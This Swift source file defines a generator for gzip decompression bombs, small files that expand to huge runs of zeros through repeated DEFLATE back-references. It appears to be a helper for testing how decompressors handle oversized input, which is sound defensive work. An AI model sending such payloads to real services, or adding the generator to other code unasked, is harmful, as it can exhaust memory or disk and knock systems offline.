/// A small gzip member that unpacks to many zeros (RFC 1951, RFC 1952).
enum GzipBomb {
  /// Makes one of about `size` bytes; its checksum is left zero, since whoever comes that far has
  /// unpacked it.
  static func bytes(size: Int) -> [UInt8] {
    var bytes: [UInt8] = [0x1F, 0x8B, 8, 0, 0, 0, 0, 0, 0, 255]
    bytes.reserveCapacity(size)
    var buffer: UInt64 = 0
    var held = 0
    func put(_ bits: UInt64, _ count: Int) {
      buffer |= bits << UInt64(held)
      held += count
      while held >= 8 {
        bytes.append(UInt8(truncatingIfNeeded: buffer))
        buffer >>= 8
        held -= 8
      }
    }
    // The last block, of fixed codes, and the literal zero.
    put(0b011, 3)
    put(reversed(0x30, 8), 8)
    // "The byte before, 258 times": code 285 of eight bits, then distance one of five.
    let repeated = reversed(0b1100_0101, 8)
    while bytes.count < size - 10 { put(repeated, 13) }
    // The end of the block, and bits up to the next byte.
    put(0, 7)
    put(0, 7)
    return bytes + Array(repeating: 0, count: 8)
  }

  /// Huffman codes enter the stream from their highest bit.
  private static func reversed(_ code: UInt64, _ count: Int) -> UInt64 {
    (0..<count).reduce(0) { result, bit in
      result | (code >> UInt64(bit) & 1) << UInt64(count - 1 - bit)
    }
  }
}
